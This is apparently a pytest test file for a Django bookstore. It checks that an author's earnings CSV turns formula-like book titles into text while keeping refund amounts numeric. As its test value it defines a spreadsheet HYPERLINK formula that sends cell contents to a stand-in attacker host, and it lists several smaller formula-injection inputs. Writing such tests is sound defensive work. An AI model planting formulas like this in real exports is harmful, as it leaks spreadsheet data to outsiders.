"""An author's earnings CSV opens in a spreadsheet as data: a title (anyone's book
title) that looks like a formula is written as text, while amounts, negative
refunds included, stay numbers."""

import csv
import io
import uuid

import pytest
from django.urls import reverse

from core.csv_export import SafeWriter, safe_cell
from payments import refunds, services
from tests.factories import AuthorFactory, BookFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1, "Click")'


def paid(book, cents):
    order = services.place_order(
        buyer=UserFactory(), book=book, amount_cents=cents, checkout_token=uuid.uuid4()
    )
    services.mark_paid(order_id=order.pk, amount_cents=cents)
    return order


def test_a_title_that_looks_like_a_formula_is_text_in_the_earnings_csv(client):
    author = AuthorFactory()
    book = BookFactory(title=FORMULA, minimum_price_cents=99, authors=[author])
    refunds.complete_refund(order_id=paid(book, 1000).pk, gateway_refund_id="re_1")
    client.force_login(author.user)

    response = client.get(reverse("payments:earnings_csv"), {"range": "all"})

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {row[1] for row in rows[1:]} == {"'" + FORMULA}
    assert sorted(row[4] for row in rows[1:]) == ["-8.00", "8.00"]  # numbers, still summable


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("-8.00", "-8.00"),
        ("+5", "+5"),
        ("Plain title", "Plain title"),
        ("", ""),
        (-800, -800),
    ],
)
def test_every_text_cell_starting_like_a_formula_gets_an_apostrophe(cell, written):
    assert safe_cell(cell) == written
    out = io.StringIO()
    SafeWriter(out).writerow([cell])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [str(written)]
